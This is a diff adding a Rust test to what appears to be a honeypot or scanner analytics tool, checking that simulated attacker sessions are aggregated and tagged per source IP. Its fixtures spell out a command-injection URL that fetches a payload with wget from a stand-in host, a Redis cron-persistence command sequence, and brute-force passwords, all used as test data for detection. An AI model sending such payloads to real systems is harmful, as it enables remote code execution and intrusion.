@@ -23,7 +23,9 @@ use scanscope_analytics::{
 };
 use scanscope_ingest::sink::Rows;
 use scanscope_lake::{Lake, paths, tables::ip_daily::UserType};
-use scanscope_proto::v1::{Batch, Counter, Event, Flow, Kind, SensorStats};
+use scanscope_proto::v1::{
+    Batch, Counter, Credential, Event, Flow, HttpRequest, Kind, SensorStats, Session,
+};
 
 const DAY: &str = "2026-11-20";
 
@@ -569,4 +571,169 @@ fn hostile_hints_and_huge_counts_stay_bounded() {
         .unwrap()
         .as_primitive::<arrow::datatypes::UInt64Type>();
     assert_eq!(packets.value(0), u64::MAX);
+}
+
+/// A table's rows as JSON objects (arrow's JSON writer), keyed by `key`.
+fn json_rows(path: &Path, key: &str) -> BTreeMap<String, serde_json::Value> {
+    let b = read(path);
+    // Timestamps left out: the JSON writer needs chrono-tz for "UTC".
+    let keep: Vec<usize> = (0..b.num_columns())
+        .filter(|&i| {
+            !matches!(
+                b.schema().field(i).data_type(),
+                arrow::datatypes::DataType::Timestamp(..)
+            )
+        })
+        .collect();
+    let b = b.project(&keep).unwrap();
+    let mut w = arrow::json::ArrayWriter::new(Vec::new());
+    w.write(&b).unwrap();
+    w.finish().unwrap();
+    let rows: Vec<serde_json::Value> = serde_json::from_slice(&w.into_inner()).unwrap();
+    rows.into_iter()
+        .map(|r| (r[key].to_string().trim_matches('"').to_string(), r))
+        .collect()
+}
+
+fn session(at: i64, src: &str, port: u32, protocol: &str) -> Session {
+    Session {
+        ts_us: t(at),
+        src_ip: v4(src),
+        dst_ip: v4("198.18.1.130"),
+        src_port: 40_000,
+        dst_port: port,
+        protocol: protocol.into(),
+        end: "answered".into(),
+        ..Default::default()
+    }
+}
+
+fn cred(method: &str, user: &str, secret: &str) -> Credential {
+    Credential {
+        method: method.into(),
+        user: user.into(),
+        secret: secret.into(),
+    }
+}
+
+#[test]
+fn sessions_fill_the_rollup_and_two_phase_scanners_are_tagged() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    // A: masscan SYNs at 100 s, then an HTTP session (120 s later) and an SSH session with two
+    // passwords and one key; B: a zmap SYN at 100 s and a MySQL login 2 000 s later (too late
+    // for the two-phase rule); C: only sessions (Redis), no fingerprint.
+    let (a, b, c) = ("203.0.113.50", "203.0.113.51", "203.0.113.52");
+    let flows = vec![
+        flow(100, a, "198.18.1.130", Kind::TcpSyn, 8080, 1),
+        flow(100, a, "198.18.1.130", Kind::TcpSyn, 2222, 1),
+        flow(100, b, "198.18.1.130", Kind::TcpSyn, 3306, 2),
+        flow(100, c, "198.18.1.130", Kind::TcpSyn, 6379, 1),
+    ];
+    let mut ev_a = event(a, 8080, &["masscan"], 255, b"");
+    ev_a.ts_us = t(100);
+    let mut ev_b = event(b, 3306, &["zmap"], 255, b"");
+    ev_b.ts_us = t(100);
+    let mut b1 = batch("s1", flows, vec![ev_a, ev_b]);
+    let mut http = session(220, a, 8080, "http");
+    http.payload =
+        b"GET /shell?cd+/tmp;wget+http://x/m HTTP/1.1\r\nUser-Agent: Hello\r\n\r\n".to_vec();
+    http.http = Some(HttpRequest {
+        method: "GET".into(),
+        url: "/shell?cd+/tmp;wget+http://x/m".into(),
+        version: 11,
+        user_agent: Some("Hello".into()),
+        ..Default::default()
+    });
+    let mut ssh = session(300, a, 2222, "ssh");
+    ssh.ssh_client_banner = "SSH-2.0-libssh_0.10.6".into();
+    ssh.hassh = "be31134219a24899a8a0c29c7797ba94".into();
+    ssh.payload = b"SSH-2.0-libssh_0.10.6\r\n".to_vec();
+    ssh.credentials = vec![
+        cred("password", "root", "admin"),
+        cred("password", "root", "123456"),
+        cred("publickey", "git", "SHA256:abc"),
+    ];
+    let mut my = session(2100, b, 3306, "mysql");
+    my.credentials = vec![cred("mysql_native", "sa", "00ff")];
+    let mut redis = session(400, c, 6379, "redis");
+    redis.commands = vec!["CONFIG SET dir /var/spool/cron".into(), "SAVE".into()];
+    redis.payload = b"*4\r\n$6\r\nCONFIG\r\n".to_vec();
+    b1.sessions = vec![http, ssh, my, redis];
+    let mut r = Rows::default();
+    r.push(&b1);
+    write_segment(root, 1, r);
+    rollup::run(&opts(root, RollupConfig::default())).unwrap();
+
+    let ip = json_rows(&rollup_path(root, "ip_daily", day()), "src_ip");
+    let ra = &ip[a];
+    assert_eq!(ra["sessions"], 2);
+    assert_eq!(ra["session_protocols"], serde_json::json!(["http", "ssh"]));
+    assert_eq!(ra["login_attempts"], 3);
+    assert_eq!(ra["login_protocols"], serde_json::json!(["ssh"]));
+    assert_eq!(ra["login_counts"], serde_json::json!([3]));
+    assert_eq!(ra["users"], serde_json::json!(["root", "git"]));
+    // Typed passwords only (not the key fingerprint), most tried first, ties by value.
+    assert_eq!(ra["passwords"], serde_json::json!(["123456", "admin"]));
+    assert_eq!(
+        ra["hassh"],
+        serde_json::json!(["be31134219a24899a8a0c29c7797ba94"])
+    );
+    assert_eq!(
+        ra["ssh_client_banners"],
+        serde_json::json!(["SSH-2.0-libssh_0.10.6"])
+    );
+    assert_eq!(
+        ra["http_url"],
+        serde_json::json!(["GET /shell?cd+/tmp;wget+http://x/m"])
+    );
+    assert_eq!(ra["http_user_agent"], serde_json::json!(["Hello"]));
+    assert_eq!(ra["two_phase_tool"], "masscan");
+    let tags: Vec<&str> = ra["tags"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| t.as_str().unwrap())
+        .collect();
+    for t in [
+        "responded",
+        "login_attempts",
+        "two_phase",
+        "payload:wget",
+        "payload:shell",
+    ] {
+        assert!(tags.contains(&t), "{t} in {tags:?}");
+    }
+    let rb = &ip[b];
+    assert!(
+        rb.get("two_phase_tool").is_none_or(|v| v.is_null()),
+        "{rb:#}"
+    );
+    assert!(
+        !rb["tags"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|t| t == "two_phase")
+    );
+    assert_eq!(rb["mysql_login_attempts"], 1);
+    assert_eq!(rb["mysql_user"], serde_json::json!(["sa"]));
+    assert_eq!(rb["login_protocols"], serde_json::json!(["mysql"]));
+    // mysql_native secrets are responses, not passwords.
+    assert_eq!(rb["passwords"], serde_json::json!([]));
+    let rc = &ip[c];
+    assert_eq!(
+        rc["session_commands"],
+        serde_json::json!(["CONFIG SET dir /var/spool/cron", "SAVE"])
+    );
+    assert_eq!(rc["login_attempts"], 0);
+    assert!(rc.get("two_phase_tool").is_none_or(|v| v.is_null()));
+
+    let ports = json_rows(&rollup_path(root, "port_daily", day()), "port");
+    assert_eq!(ports["8080"]["sessions"], 1);
+    assert_eq!(ports["8080"]["payload_sources"], 1);
+    assert_eq!(ports["3306"]["sessions"], 1);
+    assert_eq!(ports["3306"]["payload_sources"], 0);
+    assert_eq!(ports["2222"]["sessions"], 1);
+    assert_eq!(ports["6379"]["payload_sources"], 1);
 }
